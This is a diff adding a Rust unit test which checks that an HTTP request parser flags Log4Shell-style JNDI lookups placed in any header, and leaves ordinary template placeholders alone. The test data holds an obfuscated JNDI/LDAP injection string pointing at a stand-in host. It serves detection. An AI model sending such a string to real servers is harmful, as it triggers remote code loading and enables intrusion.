@@ -267,3 +267,16 @@ proptest! {
         }
     }
 }
+
+#[test]
+fn a_look_up_is_found_in_any_header() {
+    for header in ["X-Api-Version", "Cookie", "Authorization", "X-Forwarded-For", "User-Agent", "Accept"] {
+        let bytes = format!(
+            "GET / HTTP/1.1\r\nHost: a.example\r\n{header}: ${{${{lower:j}}ndi:ldap://b.example/a}}\r\n\r\n"
+        );
+        let request = only(bytes.as_bytes());
+        assert_eq!(request.oddities, [Oddity::Jndi], "{header}");
+    }
+    let bytes = b"GET / HTTP/1.1\r\nHost: a.example\r\nX-Template: ${name} costs ${price}\r\n\r\n";
+    assert_eq!(only(bytes).oddities, []);
+}
